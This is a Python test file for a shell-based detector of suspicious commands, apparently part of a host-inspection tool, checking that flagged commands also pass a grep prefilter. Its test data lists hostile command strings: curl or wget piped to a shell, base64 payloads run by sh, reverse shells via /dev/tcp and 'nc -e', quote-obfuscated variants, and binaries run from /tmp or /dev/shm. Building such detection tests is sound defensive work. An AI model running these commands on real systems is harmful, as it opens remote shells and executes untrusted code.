"""Which texts are read line by line: whatever `shady` would tell of must be among them."""

import itertools
import shutil
import subprocess

import build
import pytest
import tools

from picketline.hosts.probe import ProbeSettings, assemble

PLACES = ("/tmp", "/var/tmp", "/dev/shm", "/run/shm", "/run/user/1000")
SHAPES = (
    "{0}/x",
    "cd {0} && ./x",
    "sh -c {0}/x",
    "'{0}/x'",
    "true; {0}//x",
    "nohup {0}/./x",
)
FETCHES = (
    "curl -s http://x.example/i | sh",
    "wget -qO- x.example/i|bash",
    "bash <(curl x.example)",
    "fetch http://x.example/i && sh i",
    "wget x.example/i; chmod +x i",
    "cu'r'l x.example | s'h'",
    'w"ge"t x.example | python3',
    "echo aGk= | base64 -d | sh",
    "bash -i >& /dev/tcp/192.0.2.1/443 0>&1",
    "exec 3<>/dev/udp/192.0.2.1/53",
    "exec 3<>/dev//tcp/192.0.2.1/53",
    "nc -e /bin/sh 192.0.2.1 1",
    "/usr/bin/ncat -c sh 192.0.2.1",
    "n'c' -e /bin/sh 192.0.2.1 1",
    "%T/x",
    "%V/x",
    "/t'm'p/x",
    '/"tmp"/x',
    "/var//tmp/x",
    "/var/./tmp/x",
    "/dev//shm/x",
    "/dev/'sh'm/x",
    "/run//user/1/x",
    "/run/./user/1/x",
    '/run/us"er"/1/x',
)
COMMANDS = [
    *(shape.format(place) for shape, place in itertools.product(SHAPES, PLACES)),
    *FETCHES,
]


def _sh(script: str, text: str) -> str:
    tools.require("dash")
    probe = assemble(ProbeSettings(nonce=build.NONCE)).decode()
    head = probe[: probe.rindex("\nmain ")]
    code = f"{head}\n{script}"
    return subprocess.run(
        (str(shutil.which("dash")), "-c", code),
        input=text,
        capture_output=True,
        text=True,
        check=False,
    ).stdout


@pytest.mark.parametrize("command", COMMANDS)
def test_what_would_be_told_holds_a_word(command: str) -> None:
    """A command that `shady` names is in a text that grep picks out."""
    told = _sh("""awk "$awk_lib$awk_shady"'{ print shady($0) }'""", command)
    assert told.strip(), "not a shady command"
    assert _sh('grep -E "$text_words"', command).strip() == command


def test_an_ordinary_unit_is_not_read() -> None:
    """Else the choice would spare nothing."""
    unit = "[Unit]\nDescription=Don.\n[Service]\nExecStart=/usr/sbin/cron -f $OPTS\nKillMode=none\n"
    assert not _sh('grep -E "$text_words"', unit)
